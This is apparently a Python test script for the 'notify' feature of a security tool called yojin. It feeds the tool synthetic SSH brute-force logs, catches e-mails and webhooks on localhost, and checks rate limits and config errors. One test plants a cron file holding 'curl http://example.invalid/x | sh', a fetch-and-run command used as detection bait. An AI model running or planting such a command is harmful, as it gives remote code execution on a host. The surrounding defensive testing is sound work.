#!/usr/bin/env python3
"""`yojin logscan --notify` and `yojin notify test` against a local SMTP responder and a
local webhook receiver (both on 127.0.0.1, ephemeral ports; nothing else is contacted).

Covers: one brute force repeated 300 times -> one e-mail and one webhook POST, and none when
the same log is scanned again within the hour (the gate's state is kept in the store); 20 attacking
sources with max_per_hour 5 -> 5 messages, the fifth mentioning the 15 others; `notify test`;
bad settings (unknown key, bad URL) -> exit 2 with file:line; an unreachable SMTP port ->
a clear error naming the URL, exit 1, results still printed.

Usage: test_notify.py path/to/yojin"""
import email
import email.header
import email.policy
import http.server
import json
import os
import socket
import socketserver
import subprocess
import sys
import tempfile
import threading

BIN = sys.argv[1]
FAILURES = []
MAILS = []
POSTS = []


def check(cond, what):
    if not cond:
        FAILURES.append(what)
        print("FAIL:", what)


class SMTPHandler(socketserver.StreamRequestHandler):
    """Just enough SMTP for libcurl: EHLO, MAIL, RCPT, DATA, QUIT."""

    def handle(self):
        self.wfile.write(b"220 localhost ESMTP test\r\n")
        msg = {"from": None, "to": [], "data": b""}
        while True:
            line = self.rfile.readline()
            if not line:
                return
            cmd = line.strip().upper()
            if cmd.startswith(b"EHLO") or cmd.startswith(b"HELO"):
                self.wfile.write(b"250-localhost\r\n250 8BITMIME\r\n")
            elif cmd.startswith(b"MAIL FROM"):
                msg = {"from": line.strip()[10:].decode(), "to": [], "data": b""}
                self.wfile.write(b"250 OK\r\n")
            elif cmd.startswith(b"RCPT TO"):
                msg["to"].append(line.strip()[8:].decode())
                self.wfile.write(b"250 OK\r\n")
            elif cmd == b"DATA":
                self.wfile.write(b"354 go ahead\r\n")
                data = []
                while True:
                    l = self.rfile.readline()
                    if not l or l == b".\r\n":
                        break
                    data.append(l[1:] if l.startswith(b"..") else l)
                msg["data"] = b"".join(data)
                MAILS.append(msg)
                self.wfile.write(b"250 queued\r\n")
            elif cmd == b"QUIT":
                self.wfile.write(b"221 bye\r\n")
                return
            else:
                self.wfile.write(b"250 OK\r\n")


class HookHandler(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        n = int(self.headers.get("Content-Length", "0"))
        POSTS.append((self.headers.get("Content-Type"), self.rfile.read(n)))
        self.send_response(204)
        self.end_headers()

    def log_message(self, *a):
        pass


class TServer(socketserver.ThreadingTCPServer):
    daemon_threads = True
    allow_reuse_address = True


def serve(server):
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server.server_address[1]


def free_port():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()
    return port


def run(data, *args):
    env = dict(os.environ, YOJIN_DATA=data, YOJIN_LANG="en")
    p = subprocess.run([BIN, *args], env=env, capture_output=True, text=True, timeout=120)
    return p.returncode, p.stdout, p.stderr


def config(data, text):
    os.makedirs(data, exist_ok=True)
    with open(os.path.join(data, "yojin.yaml"), "w") as f:
        f.write(text)


def subject(m):
    parsed = email.message_from_bytes(m["data"], policy=email.policy.default)
    return str(parsed["subject"]), parsed.get_content()


def reset():
    MAILS.clear()
    POSTS.clear()


def main():
    smtp = serve(TServer(("127.0.0.1", 0), SMTPHandler))
    hook = serve(TServer(("127.0.0.1", 0), HookHandler))
    tmp = tempfile.mkdtemp(prefix="yj-notify-")
    data = os.path.join(tmp, "data")
    base = (f"notify:\n  smtp_url: smtp://127.0.0.1:{smtp}\n  mail_from: yojin@example.jp\n"
            f"  mail_to: [it@example.jp, boss@example.jp]\n"
            f"  webhook_url: http://127.0.0.1:{hook}/hook\n")
    config(data, base)

    # One source, 300 failures: one alert -> one e-mail, one POST.
    log1 = os.path.join(tmp, "bf.log")
    with open(log1, "w") as f:
        for i in range(300):
            f.write(f"Nov 20 10:{i // 60:02d}:{i % 60:02d} srv sshd[{500 + i}]: Failed password "
                    f"for root from 203.0.113.66 port {41000 + i} ssh2\n")
    rc, out, err = run(data, "logscan", "--year", "2026", "--notify", log1)
    check(rc == 0, f"brute force: exit {rc}: {err}")
    check("YJ-HOST-2001" in out, "brute force: alert printed")
    check(len(MAILS) == 1, f"brute force: {len(MAILS)} e-mails, want 1")
    check(len(POSTS) == 1, f"brute force: {len(POSTS)} POSTs, want 1")
    check("1 e-mails and 1 webhook" in out, "brute force: count printed: " + out[-300:])
    if MAILS:
        m = MAILS[0]
        check(m["from"] == "<yojin@example.jp>", "mail from " + m["from"])
        check(sorted(m["to"]) == ["<boss@example.jp>", "<it@example.jp>"], f"rcpt {m['to']}")
        subj, body = subject(m)
        check(subj.startswith("[yojin] "), "subject " + subj)
        check("203.0.113.66" in body and "yojin incident advise --type" in body,
              "mail body: " + body)
    if POSTS:
        ctype, raw = POSTS[0]
        check(ctype == "application/json", f"content type {ctype}")
        j = json.loads(raw)
        check(j.get("signature_id") == 2001 and j.get("category") == "brute-force"
              and j.get("src_ip") == "203.0.113.66" and j.get("summary"), f"webhook json {j}")

    # The same log again (cron running logscan every few minutes): nothing new to send.
    reset()
    rc, out, err = run(data, "logscan", "--year", "2026", "--notify", log1)
    check(rc == 0, f"brute force again: exit {rc}: {err}")
    check(len(MAILS) == 0 and len(POSTS) == 0,
          f"brute force again: {len(MAILS)} e-mails / {len(POSTS)} POSTs, want none")
    check("0 e-mails and 0 webhook" in out, "brute force again: count printed: " + out[-300:])

    # A data folder whose database cannot be opened: the messages still go, with a warning
    # that the same alert may be sent again, and the exit status stays 0.
    reset()
    broken = os.path.join(tmp, "data-broken")
    config(broken, base)
    os.makedirs(os.path.join(broken, "yojin.db"))
    rc, out, err = run(broken, "logscan", "--year", "2026", "--notify", log1)
    check(rc == 0 and len(MAILS) == 1 and len(POSTS) == 1,
          f"no store: exit {rc}, {len(MAILS)} e-mails / {len(POSTS)} POSTs: {err}")
    check("may be sent again" in err, "no store: warned: " + err)

    # 20 sources, max_per_hour 5: 5 messages, the fifth mentions the other 15 (a fresh data
    # directory: the hour's allowance is kept per data directory).
    reset()
    data = os.path.join(tmp, "data-many")
    config(data, base + "  max_per_hour: 5\n")
    log2 = os.path.join(tmp, "many.log")
    with open(log2, "w") as f:
        for s in range(20):
            for i in range(8):
                f.write(f"Nov 20 11:{s:02d}:{i:02d} srv sshd[{s * 10 + i}]: Failed password for "
                        f"user{s} from 198.51.100.{s + 1} port {42000 + i} ssh2\n")
    rc, out, err = run(data, "logscan", "--year", "2026", "--notify", log2)
    check(rc == 0, f"many: exit {rc}: {err}")
    check(len(MAILS) == 5, f"many: {len(MAILS)} e-mails, want 5")
    check(len(POSTS) == 5, f"many: {len(POSTS)} POSTs, want 5")
    if len(MAILS) == 5:
        check("15 more alerts were not sent" in subject(MAILS[4])[1], "fifth mail mentions 15")
        check("more alerts" not in subject(MAILS[3])[1], "fourth mail mentions none")
    if len(POSTS) == 5:
        check(json.loads(POSTS[4][1]).get("not_sent") == 15, "fifth POST not_sent 15")

    # notify test: one of each.
    reset()
    data = os.path.join(tmp, "data")
    config(data, base)
    rc, out, err = run(data, "notify", "test")
    check(rc == 0, f"notify test: exit {rc}: {err}")
    check(len(MAILS) == 1 and len(POSTS) == 1, f"notify test: {len(MAILS)} / {len(POSTS)}")

    # fim check --notify: a new cron file -> one e-mail and one POST; again -> once more
    # (each run has its own gate), and the exit status stays 0.
    reset()
    root = os.path.join(tmp, "root")
    os.makedirs(os.path.join(root, "etc", "cron.d"))
    rc, out, err = run(data, "fim", "init", root)
    check(rc == 0, f"fim init: exit {rc}: {err}")
    with open(os.path.join(root, "etc", "cron.d", "evil"), "w") as f:
        f.write("* * * * * root curl http://example.invalid/x | sh\n")
    rc, out, err = run(data, "fim", "check", "--notify")
    check(rc == 0, f"fim check --notify: exit {rc}: {err}")
    check(len(MAILS) >= 1 and len(MAILS) == len(POSTS), f"fim: {len(MAILS)} / {len(POSTS)}")
    check(any("cron.d/evil" in json.loads(p[1]).get("summary", "") for p in POSTS),
          f"fim: POST names the file: {POSTS}")
    check("webhook messages sent" in out, "fim: count printed")

    # Bad settings: exit 2 with file:line.
    path = os.path.join(data, "yojin.yaml")
    config(data, base + "  colour: red\n")
    rc, out, err = run(data, "notify", "test")
    check(rc == 2 and f"{path}:6:" in err and "colour" in err, f"unknown key: {rc} {err}")
    config(data, "notify:\n  webhook_url: ftp://127.0.0.1/x\n")
    rc, out, err = run(data, "logscan", "--notify", log1)
    check(rc == 2 and f"{path}:2:" in err and "webhook_url" in err, f"bad url: {rc} {err}")
    config(data, "notify:\n  max_per_hour: 0\n  webhook_url: http://127.0.0.1:1/\n")
    rc, out, err = run(data, "notify", "test")
    check(rc == 2 and f"{path}:2:" in err, f"bad max_per_hour: {rc} {err}")

    # Unreachable SMTP port: clear error naming the URL, exit 1, results printed; the next
    # run tries again (an alert that reached nobody is not recorded as sent).
    reset()
    data = os.path.join(tmp, "data-dead")
    path = os.path.join(data, "yojin.yaml")
    dead = free_port()
    config(data, f"notify:\n  smtp_url: smtp://127.0.0.1:{dead}\n  mail_from: a@example.jp\n"
                 f"  mail_to: b@example.jp\n")
    rc, out, err = run(data, "logscan", "--year", "2026", "--notify", log1)
    check(rc == 1, f"unreachable: exit {rc}")
    check(f"smtp://127.0.0.1:{dead}" in err and "failed" in err, "unreachable: error: " + err)
    check("YJ-HOST-2001" in out, "unreachable: results still printed")
    rc, out, err = run(data, "logscan", "--year", "2026", "--notify", log1)
    check(rc == 1 and f"smtp://127.0.0.1:{dead}" in err, f"unreachable again: {rc} {err}")

    if FAILURES:
        print(f"{len(FAILURES)} failure(s)")
        sys.exit(1)
    print("notify: all checks passed")


main()
